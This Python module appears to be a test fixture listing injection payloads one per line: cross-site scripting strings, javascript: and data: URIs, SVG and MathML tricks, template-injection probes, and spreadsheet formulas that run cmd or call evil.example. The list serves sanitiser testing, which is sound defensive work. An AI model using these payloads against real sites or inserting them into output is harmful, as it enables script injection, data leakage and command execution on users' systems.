"""Texts that want to become code, markup, style or a formula, one a line."""

from __future__ import annotations

_TEXTS = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type="text/javascript">document.location='https://evil.example'</script>
<script type=module>import('https://evil.example/m.js')</script>
<script>//<![CDATA[ alert(1) //]]></script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</pre><script>alert(1)</script>
</code></pre></div></main><script>alert(1)</script>
</table><script>alert(1)</script>
</caption></table><script>alert(1)</script>
</figcaption></figure><script>alert(1)</script>
</svg><script>alert(1)</script>
</desc></svg><script>alert(1)</script>
</text><script>alert(1)</script>
--><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src=x onerror="&#97;lert(1)">
<img/src=x/onerror=alert(1)>
<img src=https://evil.example/pixel.gif alt=x>
<img src="//evil.example/pixel.gif" alt="x">
<img srcset="https://evil.example/a.png 1x" alt="x">
<img src=`x` onerror=`alert(1)`>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<image src=x onerror=alert(1)>
<picture><source srcset=https://evil.example/a.png><img alt=x></picture>
<body onload=alert(1)>
<body background=https://evil.example/a.png>
<html onmouseover=alert(1)>
<div onmouseover="alert(1)">x</div>
<div onpointerenter=alert(1)>x</div>
<b onclick=alert(1)>bold</b>
<p onfocus=alert(1) tabindex=0 autofocus>x</p>
<input autofocus onfocus=alert(1)>
<input type=image src=https://evil.example/a.png>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<video src=https://evil.example/v.mp4 autoplay></video>
<audio src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=https://evil.example></iframe>
<embed src=javascript:alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<applet code=x></applet>
<frameset onload=alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="file:///etc/passwd">x</a>
<a href="x" ping="https://evil.example">x</a>
[x](javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
![x](javascript:alert(1))
![x](x"onerror="alert(1))
<javascript:alert(1)>
[x]: javascript:alert(1)
```<script>alert(1)</script>
`<script>alert(1)</script>
    <script>alert(1)</script>
$$<script>alert(1)</script>$$
$\href{javascript:alert(1)}{x}$
```mermaid
graph TD; A["<img src=x onerror=alert(1)>"]-->B;
%%{init: {"securityLevel": "loose"}}%%
click A "javascript:alert(1)"
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="https://evil.example/x.js"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style>@import 'https://evil.example/x.css';</style></svg>
<svg><image href="https://evil.example/a.png"/></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href=javascript:alert(1)>x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(https://evil.example/a.png)}</style>
<p style="background:url(https://evil.example/a.png)">x</p>
<p style="width:expression(alert(1))">x</p>
<div style="position:fixed;inset:0;background:red">x</div>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=image href=https://evil.example/a.png>
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=https://evil.example/>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
javascript:alert(1)
{{ 7*7 }}{{ ''.__class__.__mro__ }}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{# <script>alert(1)</script> #}
${alert(1)}
<%= 7*7 %><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
=HYPERLINK("https://evil.example","x")
+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
＝IMPORTXML("https://evil.example")
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
</p></article></main></body></html><script>alert(1)</script>
'''

TEXTS = tuple(line for line in _TEXTS.splitlines() if line)
